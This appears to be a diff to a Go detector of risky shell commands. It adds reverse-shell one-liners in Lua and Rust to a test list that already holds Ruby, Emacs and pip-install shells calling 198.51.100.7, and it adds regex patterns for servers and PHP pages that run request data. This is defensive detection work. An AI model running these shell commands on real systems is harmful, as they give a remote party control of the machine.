@@ -39,6 +39,8 @@ python3 /tmp/a.py`,
 		`rake -e 'require "socket"; c=TCPSocket.new("198.51.100.7",4242); while(l=c.gets); IO.popen(l.chomp){|i| c.write(i.read)}; end'`,
 		`irb -r socket <<< 'exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",*[TCPSocket.open("198.51.100.7",4242).to_i]*3)'`,
 		`emacs --batch --eval '(let ((p (open-network-stream "s" nil "198.51.100.7" 4242))) (set-process-filter p (lambda (p s) (process-send-string p (shell-command-to-string s)))))'`,
+		`lua -e 'local s=require"socket".connect("198.51.100.7",443) while true do local l=s:receive() local p=io.popen(l) s:send(p:read"*a") end'`,
+		`echo 'use std::net::TcpStream; use std::process::{Command, Stdio}; fn main() { let s = TcpStream::connect("198.51.100.7:1").unwrap(); let fd = s.as_raw_fd(); Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).stdout(unsafe { Stdio::from_raw_fd(fd) }).spawn(); }' > s.rs && rustc s.rs && ./s`,
 		"mkdir /tmp/pk; echo 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")' > /tmp/pk/setup.py; pip install /tmp/pk",
 	)...),
 	Quiet: lines("",
@@ -75,6 +77,9 @@ func inline(s *command.Simple, v track.View) *Finding {
 		return f
 	}
 	for _, c := range s.Code {
+		if q := squeeze(lowered(c)); !c.File && hasAny(q, servers...) && runsRequest.MatchString(q) {
+			return say(s, coi.High, "server that runs what requests say")
+		}
 		l := inlineLevel(traits(c), c.File)
 		if l == "" {
 			continue
@@ -88,7 +93,13 @@ func inline(s *command.Simple, v track.View) *Finding {
 }
 
 // requestRun is page code that runs what a request says.
-var requestRun = regexp.MustCompile(`(?is)(?:<\?(?:php|=)?.*\b(?:system|exec|passthru|shell_exec|popen|proc_open|eval|assert)\s*\(\s*@?\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|<%.*getRuntime\(\)\.exec\(\s*request\.getParameter)`)
+var requestRun = regexp.MustCompile(`(?is)(?:<\?(?:php|=)?.*\b(?:system|exec|passthru|shell_exec|popen|proc_open|eval|assert)\s*\(\s*@?\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|<\?(?:php|=)?[^\x60]*\x60[^\x60]*\$_(?:GET|POST|REQUEST|COOKIE)\b|<%.*getRuntime\(\)\.exec\(\s*request\.getParameter)`)
+
+// servers are what program text that answers requests has in it.
+var servers = []string{"createserver(", "flask(", "http.server", "basehttprequesthandler", "webrick", "sinatra", "express()", "fastapi(", "bottle", "aiohttp", "bun.serve", "deno.serve", "http.listenandserve"}
+
+// runsRequest is a program started with a part of a request.
+var runsRequest = regexp.MustCompile(`(?:popen|system|exec(?:sync|file)?|getoutput|check_output|spawn(?:sync)?|shell_exec|exec\.command|subprocess\.(?:run|call))\([^;]{0,80}(?:request\.|req(?:uest)?\.(?:url|query|body|path|params)|\.url\b|self\.path|self\.rfile|\.query|params\[|args\[|args\.get)`)
 
 // webShell is a page written to a file that hands requests to a shell.
 func webShell(s *command.Simple) *Finding {
